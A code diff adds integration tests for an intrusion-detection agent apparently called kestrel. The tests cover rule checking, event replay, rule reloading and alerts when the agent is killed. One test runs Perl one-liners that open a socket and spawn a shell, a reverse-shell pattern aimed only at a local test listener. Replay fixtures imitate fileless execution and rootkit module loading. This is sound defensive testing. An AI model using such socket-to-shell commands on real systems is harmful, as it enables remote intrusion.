+    let rule = "kestrel.execution.connect_then_shell";
+    let agent = agent(&[]);
+    let m = marker("cs");
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for c in l.incoming() {
+            drop(c);
+        }
+    });
+    let conn = format!(
+        "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,pack_sockaddr_in({port},inet_aton('127.0.0.1'))) or die;"
+    );
+    // A child shell, an exec of a shell in place, and through bash.
+    for (tag, tail) in [
+        (
+            "child",
+            format!("system('/bin/sh', '-c', 'true # {m}-child');"),
+        ),
+        (
+            "exec",
+            format!("exec('/bin/dash', '-c', 'true # {m}-exec');"),
+        ),
+        (
+            "late",
+            format!("sleep 7; system('/bin/sh', '-c', 'true # {m}-late');"),
+        ),
+    ] {
+        Command::new("perl")
+            .args(["-e", &format!("{conn} {tail}")])
+            .status()
+            .unwrap();
+        if tag != "late" {
+            let a = wait_alert(&agent, rule, &format!("{m}-{tag}"));
+            assert_eq!(field(&a, "mitre_technique"), "T1059.004,T1071");
+            let t = triggers(&agent, &a);
+            assert_eq!(t[0]["data_type"], "42");
+            assert_eq!(t[1]["data_type"], "59");
+        }
+    }
+    // Past 5 s: no sequence.
+    assert_quiet(&agent, rule, &format!("{m}-late"));
+    agent.stop();
+}
+
+const CUSTOM: &str = "rules:
+- id: test.two_steps
+  name: two marked execs
+  severity: low
+  sequence:
+    by: []
+    within: 1m
+    steps:
+    - condition: {all: [{field: data_type, equals: '59'}, {field: argv, contains: MARK-a}]}
+    - condition: {all: [{field: data_type, equals: '59'}, {field: argv, contains: MARK-b}]}
+";
+
+#[test]
+fn rules_check_and_rules_test() {
+    let d = scratch("rulescli");
+    // The built-in set: one line per rule, all loaded.
+    let out = kestrel().args(["rules", "check"]).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let lines: Vec<Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(lines.len() >= 20);
+    for l in &lines {
+        let keys: Vec<_> = l.as_object().unwrap().keys().cloned().collect();
+        assert_eq!(keys.len(), 5, "{l}");
+        assert_eq!(l["status"], "loaded", "{l}");
+        assert_eq!(l["source"], "builtin");
+    }
+    // A custom directory beside it, and a file that does not parse.
+    let good = d.join("good");
+    std::fs::create_dir_all(&good).unwrap();
+    std::fs::write(good.join("a.yaml"), CUSTOM.replace("MARK", "m")).unwrap();
+    let out = kestrel()
+        .args(["rules", "check", "--no-builtin-rules", "--rules"])
+        .arg(&good)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(
+        text.trim(),
+        r#"{"rule_id":"test.two_steps","title":"two marked execs","source":"custom","status":"loaded","reason":""}"#
+    );
+    let bad = d.join("bad");
+    std::fs::create_dir_all(&bad).unwrap();
+    std::fs::write(
+        bad.join("b.yaml"),
+        "rules:\n- id: x\n  name: X\n  severity: hgh\n  condition: {field: a, equals: b}\n",
+    )
+    .unwrap();
+    let out = kestrel()
+        .args(["rules", "check", "--rules"])
+        .arg(&bad)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains(&format!("{}:4:", bad.join("b.yaml").display())),
+        "{err}"
+    );
+
+    // Replay: an exec from memfd and the two marked execs, as the agent
+    // writes them; the alerts come out in the agent's format.
+    let events = d.join("events.json");
+    std::fs::write(
+        &events,
+        [
+            r#"{"data_type":"59","exe":"/memfd:x (deleted)","exe_memfd":"true","res":"0","time":"1000","pid":"5","tgid":"5","event_id":"a-1-0"}"#,
+            r#"{"data_type":"59","exe":"/usr/bin/true","argv":"true m-a","res":"0","time":"2000","event_id":"a-1-1"}"#,
+            r#"{"data_type":"59","exe":"/usr/bin/true","argv":"true m-b","res":"0","time":"3000","event_id":"a-1-2"}"#,
+            // A module from /tmp, one from the module tree, a finding.
+            r#"{"data_type":"603","exe":"/usr/bin/kmod","lkm_file":"/tmp/rk.ko","res":"0","time":"4000","event_id":"a-1-3"}"#,
+            r#"{"data_type":"603","exe":"/usr/bin/kmod","lkm_file":"/lib/modules/6.1.0/kernel/fs/fuse.ko","res":"0","time":"4001","event_id":"a-1-4"}"#,
+            r#"{"data_type":"702","module_name":"kestrel_rk","hidden":"1","seen_by":"mod_tree","time":"5000","event_id":"a-1-5"}"#,
+        ]
+        .join("\n"),
+    )
+    .unwrap();
+    let out = kestrel()
+        .args(["rules", "test", "--events"])
+        .arg(&events)
+        .arg("--rules")
+        .arg(&good)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let alerts: Vec<Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let ids: Vec<_> = alerts.iter().map(|a| field(a, "rule_id")).collect();
+    assert_eq!(
+        ids,
+        [
+            "kestrel.execution.fileless",
+            "test.two_steps",
+            "kestrel.persistence.kernel_module",
+            "kestrel.defense_evasion.rootkit_finding"
+        ]
+    );
+    assert_eq!(field(&alerts[2], "trigger_event_ids"), "a-1-3");
+    assert_eq!(field(&alerts[3], "mitre_technique"), "T1014");
+    assert_eq!(field(&alerts[0], "source"), "builtin");
+    assert_eq!(field(&alerts[0], "trigger_event_ids"), "a-1-0");
+    assert_eq!(field(&alerts[1], "source"), "custom");
+    assert_eq!(field(&alerts[1], "trigger_event_ids"), "a-1-1,a-1-2");
+    assert_eq!(field(&alerts[1], "data_type"), "9000");
+    // A line that is not JSON: named.
+    std::fs::write(&events, "{\"data_type\":\"59\"}\nnot json\n").unwrap();
+    let out = kestrel()
+        .args(["rules", "test", "--events"])
+        .arg(&events)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains(&format!("{}:2:", events.display())));
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn bad_rule_files_stop_the_agent_and_sighup_reloads_keeping_state() {
+    let d = scratch("reload");
+    let dir = d.join("rules");
+    std::fs::create_dir_all(&dir).unwrap();
+    // A file that does not parse: the agent refuses to start, naming it.
+    std::fs::write(dir.join("bad.yaml"), "rules:\n- id: x\n  nme: X\n").unwrap();
+    let out = kestrel()
+        .args(["agent", "--no-logins", "--state-dir"])
+        .arg(d.join("state"))
+        .arg("--rules")
+        .arg(&dir)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains(&format!("{}:3:", dir.join("bad.yaml").display())),
+        "{err}"
+    );
+
+    let m = marker("rl");
+    std::fs::write(dir.join("bad.yaml"), CUSTOM.replace("MARK", &m)).unwrap();
+    let dirs = dir.display().to_string();
+    let agent = agent(&["--rules", &dirs]);
+    Command::new("/usr/bin/true")
+        .arg(format!("{m}-a"))
+        .status()
+        .unwrap();
+    agent.wait_for("the first step", |e| {
+        e["data_type"] == "59"
+            && e["argv"]
+                .as_str()
+                .is_some_and(|a| a.contains(&format!("{m}-a")))
+    });
+    // Another rule added, and a broken file given then fixed: the
+    // unchanged rule keeps its first step across both reloads.
+    std::fs::write(dir.join("more.yaml"), "rules: [\n").unwrap();
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(agent.pid() as i32, libc::SIGHUP) };
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !agent.stderr().contains("reloading the rules failed") {
+        assert!(
+            Instant::now() < deadline,
+            "no failed reload logged:\n{}",
+            agent.stderr()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    std::fs::write(
+        dir.join("more.yaml"),
+        format!("rules:\n- id: test.more\n  name: more\n  severity: info\n  condition: {{field: argv, contains: {m}-c}}\n"),
+    )
+    .unwrap();
+    unsafe { libc::kill(agent.pid() as i32, libc::SIGHUP) };
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !agent.stderr().contains("detection rules reloaded") {
+        assert!(
+            Instant::now() < deadline,
+            "no reload logged:\n{}",
+            agent.stderr()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    Command::new("/usr/bin/true")
+        .arg(format!("{m}-b"))
+        .status()
+        .unwrap();
+    let a = agent.wait_for("the sequence across the reloads", |e| {
+        e["data_type"] == "9000" && e["rule_id"] == "test.two_steps"
+    });
+    assert_eq!(field(&a, "source"), "custom");
+    Command::new("/usr/bin/true")
+        .arg(format!("{m}-c"))
+        .status()
+        .unwrap();
+    agent.wait_for("the rule added by the reload", |e| {
+        e["data_type"] == "9000" && e["rule_id"] == "test.more"
+    });
+    let c = agent.stop();
+    assert_eq!(c["rule_reloads"], 1);
+    assert_eq!(c["rule_reload_failures"], 1);
+    assert!(c["alerts"] >= 2);
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn signals_that_stop_the_agent_alert() {
+    let rule = "kestrel.defense_evasion.kill_agent";
+    let agent = agent(&[]);
+    let pid = agent.pid().to_string();
+    // Benign: SIGHUP reloads rules and re-opens the output.
+    assert!(Command::new("/usr/bin/kill")
+        .args(["-HUP", &pid])
+        .status()
+        .unwrap()
+        .success());
+    // SIGSTOP then SIGCONT from kill(1): the alert comes once it runs.
+    assert!(Command::new("/usr/bin/kill")
+        .args(["-STOP", &pid])
+        .status()
+        .unwrap()
+        .success());
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(Command::new("/usr/bin/kill")
+        .args(["-CONT", &pid])
+        .status()
+        .unwrap()
+        .success());
+    let a = agent.wait_for("the SIGSTOP alert", |e| {
+        e["data_type"] == "9000" && e["rule_id"] == rule && e["exe"] == "/usr/bin/kill"
+    });
+    assert_eq!(field(&a, "mitre_technique"), "T1562.001");
+    let t = triggers(&agent, &a);
+    assert_eq!(t[0]["sig"], "19");
+    assert_eq!(t[0]["target_tgid"].as_str(), Some(pid.as_str()));
+    std::thread::sleep(Duration::from_millis(500));
+    assert!(
+        !alerts(&agent, rule)
+            .iter()
+            .any(|a| triggers(&agent, a)[0]["sig"] == "1"),
+        "SIGHUP alerted"
+    );
+    // SIGTERM from a script: the agent drains what the kernel captured
+    // before it exits, the alert with it.
+    agent.stop();
+    let out = std::env::temp_dir().join(marker("killag"));
+    let agent2 = Agent::start_to_file(&out, &["--alert-suppress-secs", "0"]);
+    let pid2 = agent2.pid();
+    Command::new("perl")
+        .args(["-e", &format!("kill 'TERM', {pid2}")])
+        .status()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    loop {
+        let text = std::fs::read_to_string(&out).unwrap_or_default();
+        if text
+            .lines()
+            .any(|l| l.contains(rule) && l.contains("\"exe\":\"/usr/bin/perl\""))
+        {
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no alert for the SIGTERM:\n{}",
+            agent2.stderr()
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    drop(agent2);
+    let _ = std::fs::remove_file(out);
+}
